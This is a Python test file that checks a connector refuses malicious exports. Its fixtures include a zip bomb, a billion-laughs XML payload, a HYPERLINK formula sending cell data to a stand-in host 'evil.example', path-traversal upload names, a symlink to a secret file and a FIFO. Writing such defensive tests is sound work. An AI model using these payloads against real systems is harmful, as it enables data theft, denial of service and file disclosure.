"""Files from outside: a malicious export is refused before it costs anything, and its name or place opens nothing else."""

import io
import os
import tracemalloc
import zipfile
from datetime import UTC, datetime

import pytest
from openpyxl import Workbook

from tideover.connectors.assisted.cloud import connect
from tideover.connectors.assisted.folder import Folder
from tideover.connectors.assisted.sheet import UNPACKED_BYTES_MAX
from tideover.connectors.assisted.table import FILE_BYTES_MAX, ROWS_MAX, read_table
from tideover.errors import FileUnreadable
from tideover.settings import Settings
from unit.web.shop import StillWorld, in_shop

NOW = datetime(2026, 11, 20, 12, 0, tzinfo=UTC)
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 30) for n in range(9))
    + b'] ><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData><row r="1">'
    + b'<c r="A1" t="inlineStr"><is><t>&j;</t></is></c><c r="B1" t="inlineStr"><is><t>b</t></is></c></row></sheetData></worksheet>'
)


def book(*rows):
    out, made = io.BytesIO(), Workbook()
    for row in rows:
        made.active.append(row)
    made.save(out)
    return out.getvalue()


def with_part(content, name, part, packing=zipfile.ZIP_DEFLATED):
    """The same archive with one part replaced."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(content)) as old, zipfile.ZipFile(out, "w", packing) as new:
        for one in old.namelist():
            if one != name:
                new.writestr(one, old.read(one))
        with new.open(name, "w") as file:
            for piece in part:
                file.write(piece)
    return out.getvalue()


def refused(content):
    """Why it is refused, and what that cost in memory."""
    tracemalloc.start()
    try:
        with pytest.raises(FileUnreadable) as told:
            read_table("items", content)
        return told.value.message, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def test_an_archive_that_unpacks_to_gigabytes_is_not_opened():
    """A real bomb: half a megabyte that would be more than the limit; it is read off its list of contents."""
    bomb = with_part(book(["a"]), "xl/sharedStrings.xml", (bytes(2**20) for _ in range(UNPACKED_BYTES_MAX // 2**20 + 1)))
    assert len(bomb) < 2**20
    message, peak = refused(bomb)
    assert "unpacks to more" in message and peak < 10 * 2**20


def test_words_that_grow_out_of_each_other_are_refused():
    """A sheet whose text is defined as thirty times thirty times … itself ends at once, as no whole file."""
    message, peak = refused(with_part(book(["a", "b"], ["x", 1]), "xl/worksheets/sheet1.xml", [LAUGHS]))
    assert "not a whole XLSX" in message and peak < 50 * 2**20


@pytest.mark.parametrize("content", [b"a;b\n" + b"1;2\n" * (ROWS_MAX + 10), b"x" * (FILE_BYTES_MAX + 1), b'a;b\n"' + b"x" * 10_000_000])
def test_a_table_without_end_is_refused(content):
    """Rows, bytes and one cell that never closes: each has its limit."""
    with pytest.raises(FileUnreadable):
        read_table("items", content)


def test_a_formula_is_text():
    """What a spreadsheet would run is kept as it is written, and computes nothing here."""
    evil = '=HYPERLINK("http://evil.example/?"&A1)'
    table = read_table("items.csv", f"code;name\nA1;{evil.replace(';', ',')}\nA2;@SUM(1)\n".encode())
    assert [evil, "@SUM(1)"] == [str(row.cells[1]).replace('""', '"') for row in table.rows]


def test_a_link_or_a_pipe_in_the_folder_is_no_export(tmp_path):
    """Whoever may drop files there cannot have another file of this machine read, nor hang the box."""
    secret = tmp_path / "secret.csv"
    secret.write_text("code;name\nA1;somebody else's\n")
    exports = tmp_path / "exports"
    exports.mkdir()
    (exports / "items.csv").symlink_to(secret)
    os.mkfifo(exports / "items-2.csv")
    (exports / "items-3.csv").mkdir()
    assert (None, None) == (Folder(exports).newest("items", NOW), Folder(exports).named("items", NOW))
    (exports / "items-4.csv").write_text("code;name\nA1;Coffee\n")
    assert "items-4.csv" == Folder(exports).newest("items", NOW).name


@pytest.mark.parametrize("name", ["..", "..%2f..%2fsecrets", "items%2f..%2f..%2fx", "%2e%2e", "items%00"])
def test_an_upload_names_no_place(tmp_path, name):
    """Only the names of our copies are taken; nothing is written anywhere for another."""

    async def play(shop):
        before = set(tmp_path.rglob("*"))
        for path in (f"/v1/exports/{name}", f"/v1/exports/{name}/look"):
            assert (await shop.machine.post(path, content=b"code;name\n1;2\n")).status_code in (400, 404, 405)
        assert before == set(tmp_path.rglob("*"))
        taken = await shop.machine.post("/v1/exports/items", content=b"code;name;price;vat\nA1;Coffee;2.50;25.5\n")
        assert (200, True) == (taken.status_code, before < set(tmp_path.rglob("*")))

    in_shop(tmp_path, play, cloud_of=by_hand(tmp_path))


def by_hand(folder):
    """A cloud without an interface, whose exports a person brings."""
    return connect(Settings(cloud="assisted", cloud_url=str(folder / "exports")), None, StillWorld(), None, None)


def test_a_day_that_is_a_path_is_refused(tmp_path):
    """A day report's file is named after its day, so the day must be one."""

    async def play(shop):
        days = ("../../x", "2026-11-20/..", "")
        return [(await shop.machine.post("/v1/day-report", params={"day": day}, content=b"x")).status_code for day in days]

    assert [400, 400, 400] == in_shop(tmp_path, play, cloud_of=by_hand(tmp_path))


def test_the_files_that_we_read_are_bounded_before_they_are_read(tmp_path):
    """A file beyond the limit is refused by its size alone: a sparse one of a terabyte costs nothing."""
    big = tmp_path / "items.csv"
    with open(big, "wb") as file:
        file.truncate(2**40)
    with pytest.raises(FileUnreadable):
        Folder(tmp_path).newest("items", NOW)
